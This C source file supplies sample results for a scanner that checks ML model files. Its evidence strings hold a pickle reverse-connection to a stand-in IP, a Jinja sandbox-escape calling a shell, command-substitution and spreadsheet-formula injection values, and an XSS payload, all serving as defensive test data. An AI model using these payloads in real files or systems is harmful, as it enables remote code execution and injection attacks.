/* SPDX-License-Identifier: Apache-2.0 */
#include "sample.h"
#include "base/st.h"
#include "finding/rules.h"
#include <stdio.h>

static const struct rule rules[] = {
    {.id = "model.pickle-exec",
     .class_id = "model.code_exec_on_load",
     .severity = SEV_CRITICAL,
     .title = "Code runs when the model is loaded",
     .what = "A pickle stream imports a callable and calls it while it is being read.",
     .attack =
         "An attacker publishes a model\nA job loads it\nThe command runs with the job's rights",
     .why = "Whoever wrote the file runs commands on every machine that loads it.",
     .fix = "delete it or rebuild it from a trusted run; never load it.",
     .bad = "posix.system('echo hi')",
     .good = "a safetensors file",
     .refs = "CVE-2025-32434 https://docs.python.org/3/library/pickle.html"},
    {.id = "model.template-injection",
     .class_id = "model.template_injection",
     .severity = SEV_HIGH,
     .title = "A chat template that reaches out of its sandbox",
     .what = "A Jinja template walks from a value to Python's own objects.",
     .attack = "A model with the template is published\nA server renders it for each chat\n"
               "The expression runs inside the server",
     .why = "The template runs Python inside the server that renders the chat.",
     .fix = "replace the template with the publisher's original one.",
     .bad = "{{ ''.__class__.__mro__ }}",
     .good = "{{ message['content'] }}",
     .refs = "CVE-2024-34359"},
    {.id = "model.not-inspected",
     .class_id = "model.scanner_evasion",
     .severity = SEV_HIGH,
     .title = "Bytes that nobody looked at",
     .what = "Part of the file could not be read.",
     .attack = "",
     .why = "What is in there may do anything when the file is loaded.",
     .fix = "get the file in a form that can be inspected, or do not use it.",
     .bad = "",
     .good = "",
     .refs = ""},
    {.id = "model.suffix-lies",
     .class_id = "model.scanner_evasion",
     .severity = SEV_MEDIUM,
     .title = "The name promises another format",
     .what = "The content is of another format than the suffix says.",
     .attack = "",
     .why = "A loader that trusts the name may pick the unsafe path for this file.",
     .fix = "rename it to what it is, or find out who named it so.",
     .bad = "model.safetensors that is a pickle",
     .good = "",
     .refs = ""},
    {.id = "model.weights-odd",
     .class_id = "model.weight_anomaly",
     .severity = SEV_LOW,
     .title = "Odd weights",
     .what = "A tensor holds values that training does not leave behind.",
     .attack = "",
     .why = "Weights may have been changed after training.",
     .fix = "compare the digest with the publisher's.",
     .bad = "",
     .good = "",
     .refs = ""},
};

static const struct rule *rule(const char *id)
{
    for (size_t i = 0; i < COUNT_OF(rules); i++)
        if (slice_eq(slice_str(id), slice_str(rules[i].id))) return &rules[i];
    return &rules[0];
}

static struct finding *add(struct result *r, const char *id, const char *path, const char *message,
                           const char *evidence)
{
    struct finding f = finding_of(rule(id));
    f.path = slice_str(path);
    f.message = slice_str(message);
    f.evidence = slice_str(evidence);
    return result_add_finding(r, &f);
}

static void inside(struct finding *f, const char *member, int64_t offset)
{
    if (member) f->inner[f->inner_count++] = slice_str(member);
    f->offset = offset;
}

static struct subject *subject(struct result *r, const char *path, enum subject_kind kind,
                               const char *format, uint64_t bytes, const char *detail)
{
    struct subject s = {.path = slice_str(path),
                        .kind = kind,
                        .format = slice_str(format),
                        .bytes = bytes,
                        .detail = slice_str(detail)};
    uint64_t x = bytes * 0x9e3779b97f4a7c15ull + s.path.n;
    for (size_t i = 0; i < 64; i++) {
        x = x * 6364136223846793005ull + 1442695040888963407ull;
        s.sha256[i] = "0123456789abcdef"[x >> 60];
    }
    r->files++;
    r->bytes += bytes;
    return result_add_subject(r, &s);
}

static void waive(struct finding *f)
{
    f->state = FINDING_SUPPRESSED;
    f->waived_by = S("maria");
    f->waived_reason = S("retired job, the file is kept for the audit only");
    f->waived_until = S("2027-03-31");
}

static void rich_subjects(struct result *r)
{
    subject(
        r, "models/ranker.pkl", SUBJECT_MODEL, "pickle", 1284222,
        "{\"framework\":\"scikit-learn\",\"protocol\":\"4\",\"tensors\":14,\"parameters\":160204,"
        "\"dtypes\":\"F64, I64\",\"imports\":\"posix.system, sklearn.ensemble.RandomForest\"}");
    subject(r, "models/chat/model-00001-of-00002.safetensors", SUBJECT_MODEL, "safetensors",
            4976698672ull,
            "{\"framework\":\"transformers\",\"architecture\":\"LlamaForCausalLM\",\"tensors\":291,"
            "\"parameters\":1235814400,\"dtypes\":\"BF16\",\"licence\":\"llama3.2\"}");
    subject(r, "models/chat/tokenizer_config.json", SUBJECT_CONFIG, "json", 50500, "{}");
    subject(r, "models/tiny.gguf", SUBJECT_MODEL, "gguf", 638512,
            "{\"architecture\":\"llama\",\"name\":\"Tiny\",\"tensors\":21,\"parameters\":1100048,"
            "\"dtypes\":\"Q4_K, F32\",\"quantisation\":\"Q4_K_M\",\"context\":\"2048\"}");
    subject(r, "models/old/net.pt", SUBJECT_MODEL, "pytorch", 218000222,
            "{\"framework\":\"pytorch\",\"tensors\":62,\"parameters\":54499996,\"dtypes\":\"F32\","
            "\"weights_only\":\"safe\"}");
    struct subject *s = subject(r, "models/backup.zip", SUBJECT_ARCHIVE, "zip", 41002003, "{}");
    s->not_inspected = true;
    s->unread = 40999000;
    s = subject(r, "models/legacy.h5", SUBJECT_MODEL, "hdf5", 20110, "{}");
    s->not_inspected = true;
    s->unread = 20110;
    s->sha256[0] = 0;
    subject(r, "eda.ipynb", SUBJECT_NOTEBOOK, "notebook", 88211, "{}");
    subject(r, "train/load.py", SUBJECT_CODE, "python", 3391, "{}");
    r->not_covered[SUBJECT_NOTEBOOK] = 1;
    r->not_covered[SUBJECT_CODE] = 1;
    r->skipped_dirs = 3;
}

static void rich_findings(struct result *r)
{
    static const char *const copies[] = {"models/ab/a.pkl", "models/ab/b.pkl", "models/ab/c.pkl",
                                         "models/ab/d.pkl", "models/ab/e.pkl", "models/ab/f.pkl",
                                         "models/ab/g.pkl"};
    inside(add(r, "model.pickle-exec", "models/ranker.pkl",
               "Runs a shell command as soon as the file is loaded", "posix.system('echo hi')"),
           NULL, 41);
    inside(add(r, "model.pickle-exec", "models/old/net.pt",
               "Opens a connection as soon as the file is loaded",
               "socket.create_connection(('198.51.100.7', 4444)), then builtins.exec(...)"),
           "archive/data.pkl", 122);
    for (size_t i = 0; i < COUNT_OF(copies); i++)
        inside(add(r, "model.pickle-exec", copies[i], "Compiles and runs Python source",
                   "builtins.exec('import base64;...')"),
               NULL, 2 + (int64_t)i);
    struct finding *f =
        add(r, "model.template-injection", "models/chat/tokenizer_config.json",
            "The chat template walks from a string to Python's base object and can call anything "
            "from there, each time that a conversation is rendered",
            "{{ ''.__class__.__mro__[1].__subclasses__()[132]('id', shell=True) }}");
    f->line = 12;
    f->column = 40;
    f->field = S("chat_template");
    add(r, "model.not-inspected", "models/backup.zip",
        "Bytes were not inspected: nothing can be said about them",
        "encrypted member: weights.bin");
    add(r, "model.not-inspected", "models/legacy.h5",
        "Bytes were not inspected: nothing can be said about them", "no reader for this format");
    add(r, "model.suffix-lies", "models/chat/old.safetensors", "Named .safetensors, but a pickle",
        "first bytes 80 04 95");
    inside(add(r, "model.weights-odd", "models/tiny.gguf", "All values of a tensor are equal",
               "blk.3.attn_q.weight"),
           NULL, 55120);
    inside(add(r, "model.weights-odd", "models/tiny.gguf", "A tensor holds NaN",
               "blk.4.attn_q.weight"),
           NULL, 65120);
    f = add(r, "model.pickle-exec", "models/old/retired.pkl", "Imports subprocess",
            "subprocess.run");
    f->severity = SEV_HIGH;
    waive(f);
    f->offset = 7;
}

static void make_rich(struct result *r)
{
    r->target = S("fraud-scoring");
    rich_subjects(r);
    rich_findings(r);
    r->notes[r->note_count++] = S("this kernel has no landlock: workers run under seccomp only");
}

static void make_clean(struct result *r)
{
    r->target = S(".");
    subject(r, "model.safetensors", SUBJECT_MODEL, "safetensors", 90112, "{\"tensors\":4}");
    subject(r, "scaler.joblib", SUBJECT_MODEL, "joblib", 2112, "{}");
    subject(r, "config.json", SUBJECT_CONFIG, "json", 811, "{}");
}

#define HOSTILE                                                                                \
    "\033[31mred\007 \xe2\x80\xae"                                                             \
    "txt.exe \xff\xfe ]]> </script><b>x|y ::error::no\n"                                       \
    "%0A=cmd()|' /C calc'!A0 `tick` \"q\" \\ & *bold* [l](http://x) @all #1 \xf0\x9f\x98\x80 " \
    "\xe6\xbc\xa2\xe5\xad\x97"

static void make_hostile(struct result *r)
{
    r->target = S("../$(touch x) '" HOSTILE "'");
    subject(r, "=cmd()|" HOSTILE, SUBJECT_MODEL, HOSTILE, 7,
            "{\"name\":\"</script><img src=x onerror=alert(1)>\",\"licence\":\"\\u001b[31m\","
            "\"weird\":[1,{\"a\":null}]}");
    subject(r, "broken.json", SUBJECT_CONFIG, "json", 1, "{\"a\":");
    struct finding *f = add(r, "model.pickle-exec", "=cmd()|" HOSTILE, "-" HOSTILE, "@" HOSTILE);
    inside(f, "in/" HOSTILE, 1);
    f->field = S("+" HOSTILE);
    f->fix = S(HOSTILE);
    f = add(r, "model.template-injection", "a,b:c\r\nd/file\t.json", "one\r\n::error::two", "");
    f->line = 3;
    f = add(r, "model.suffix-lies", "x.bin", "waived", "e");
    waive(f);
    f->waived_reason = S(HOSTILE);
    r->notes[r->note_count++] = S(HOSTILE);
    r->gate.reasons[r->gate.reason_count++] = S(HOSTILE);
}

static void make_model(struct result *r)
{
    r->target = S("llama.safetensors");
    subject(r, "llama.safetensors", SUBJECT_MODEL, "safetensors", 4976698672ull,
            "{\"framework\":\"transformers\",\"architecture\":\"LlamaForCausalLM\",\"name\":"
            "\"Llama-3.2-1B\",\"tensors\":291,\"parameters\":1235814400,\"dtypes\":\"BF16\","
            "\"licence\":\"llama3.2\",\"template\":\"9f2c41\"}");
}

static void make_huge(struct result *r)
{
    static const char *const ids[] = {"model.weights-odd", "model.suffix-lies", "model.pickle-exec",
                                      "model.template-injection"};
    r->target = S("store");
    for (unsigned i = 0; i < 10000; i++) {
        struct slice path = arena_printf(r->arena, "shard-%02u/model-%05u.bin", i % 64, i);
        struct slice evidence = arena_printf(r->arena, "tensor %u", i);
        struct finding *f = add(r, ids[i % COUNT_OF(ids)], "", "The same sentence each time", "");
        f->path = path;
        f->evidence = evidence;
        if (i % 3 == 0) f->message = arena_printf(r->arena, "Sentence number %u", i);
        f->offset = i;
    }
    r->files = 10000;
    r->bytes = 1ull << 40;
}

static void make_diff(struct result *r)
{
    make_rich(r);
    r->baseline = true;
    r->fixed = 2;
    for (size_t i = 1; i < r->finding_count; i++)
        if (r->findings[i].state == FINDING_OPEN) r->findings[i].state = FINDING_KNOWN;
}

static void decide(struct result *r)
{
    for (size_t i = 0; i < r->finding_count; i++)
        r->gate.at_or_above +=
            r->findings[i].state == FINDING_OPEN && r->findings[i].severity >= r->gate.fail_on;
    r->gate.passed = r->gate.at_or_above == 0;
}

static const struct {
    const char *name;
    void (*make)(struct result *r);
} samples[SAMPLE_COUNT] = {
    [SAMPLE_RICH] = {"rich", make_rich},    [SAMPLE_CLEAN] = {"clean", make_clean},
    [SAMPLE_EMPTY] = {"empty", NULL},       [SAMPLE_HOSTILE] = {"hostile", make_hostile},
    [SAMPLE_MODEL] = {"model", make_model}, [SAMPLE_HUGE] = {"huge", make_huge},
    [SAMPLE_DIFF] = {"diff", make_diff},
};

const char *sample_name(enum sample which)
{
    return which < SAMPLE_COUNT ? samples[which].name : NULL;
}

void sample_make(enum sample which, struct arena *arena, struct result *ret)
{
    result_init(ret, arena);
    ret->target = S(".");
    memcpy(ret->started, "2026-11-25T02:31:00Z", 21);
    ret->seconds = 0.42;
    if (samples[which].make) samples[which].make(ret);
    for (size_t i = 0; i < ret->finding_count; i++)
        finding_fingerprint(&ret->findings[i], (unsigned)i);
    decide(ret);
    result_finish(ret);
}
